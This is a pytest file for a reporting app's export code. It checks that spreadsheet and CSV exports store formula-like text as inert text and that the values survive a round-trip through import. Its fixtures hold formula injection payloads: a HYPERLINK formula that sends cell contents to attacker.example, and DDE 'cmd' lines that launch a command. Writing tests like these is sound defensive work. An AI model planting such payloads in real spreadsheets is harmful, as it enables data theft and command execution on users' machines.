"""Exports safe to open: text a spreadsheet would run as a formula is written as text in
XLSX (plain sheets and form templates) and quoted in CSV, and reads back unchanged."""

import csv
import io

import pytest
from openpyxl import load_workbook

from tongket.core.cells import csv_text, csv_text_restore, formula_like, sheet_row
from tongket.reporting.models import Value
from tongket.reporting.periods import period_get_or_create
from tongket.transfer.export import values_export
from tongket.transfer.services import files_import
from transfer.test_xlsx import communes, form  # noqa: F401 (fixtures)

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HEAD = "unit,indicator,period,value,comment\n"


def _values_with_comments(ref) -> None:
    for n, payload in enumerate(PAYLOADS, start=1):
        Value.objects.create(
            unit=ref.ha_noi,
            indicator=ref.subscribers,
            period=period_get_or_create(f"2017-{n:02d}"),
            value=n,
            source="manual",
            comment=payload,
        )


def test_the_helper_knows_every_formula_start():
    for payload in PAYLOADS:
        assert formula_like(payload)
        assert csv_text(payload) == "'" + payload
        assert csv_text_restore(csv_text(payload)) == payload
    for safe in ("ghi chú", "1.5", "'=already quoted? no: starts with a quote", ""):
        assert csv_text(safe) == safe
    assert csv_text(-5.0) == -5.0  # numbers are not text


def test_csv_export_quotes_formula_text_and_imports_back_unchanged(ref, write, tmp_path):
    _values_with_comments(ref)
    out = tmp_path / "out.csv"
    assert values_export(fmt="csv", out=out) == len(PAYLOADS)
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))[1:]
    comments = sorted(r[4] for r in rows)
    assert comments == sorted("'" + p for p in PAYLOADS)
    assert all(not r[4].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows)
    again = files_import(paths=[out])[0]
    assert (again.created, again.changed, again.unchanged) == (0, 0, len(PAYLOADS))


def test_xlsx_export_writes_formula_text_as_text_cells(ref, write, tmp_path):
    _values_with_comments(ref)
    out = tmp_path / "out.xlsx"
    values_export(fmt="xlsx", out=out)
    ws = load_workbook(out).active
    cells = [row[4] for row in ws.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(PAYLOADS)
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix
    # No formula anywhere in the sheet's XML.
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    again = files_import(paths=[out])[0]
    assert (again.created, again.changed, again.unchanged) == (0, 0, len(PAYLOADS))


def test_template_writes_comments_and_names_as_text(ref, form, communes, write, tmp_path):  # noqa: F811
    ref.commune.name = '=HYPERLINK("http://attacker.example","xã")'
    ref.commune.save(update_fields=["name"])
    files_import(paths=[write("c.csv", HEAD + '00004,tt.thue_bao,2017-01,5,"@SUM(1+1)"\n')])
    out = tmp_path / "mau.xlsx"
    values_export(fmt="xlsx", out=out, form="BC-VT/01", period="2017-01", unit="00004")
    ws = load_workbook(out)["BC-VT_01"]
    texts = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    note = ws["F9"]
    assert (note.value, note.data_type, note.quotePrefix) == ("@SUM(1+1)", "s", True)
    assert any(c.value.startswith("Đơn vị / unit: =HYPERLINK") for c in texts)


@pytest.mark.parametrize("write_only", [False, True])
def test_sheet_row_keeps_numbers_and_drops_control_characters(write_only):
    from openpyxl import Workbook

    book = Workbook(write_only=write_only)
    ws = book.create_sheet("x") if write_only else book.active
    ws.append(sheet_row(ws, ["=1+1", -2.5, "a\x01b\x1bc", None, "plain"]))
    buffer = io.BytesIO()
    book.save(buffer)
    row = next(load_workbook(buffer).worksheets[0].iter_rows())
    assert [c.value for c in row] == ["=1+1", -2.5, "abc", None, "plain"]
    assert [c.data_type for c in row][:2] == ["s", "n"]
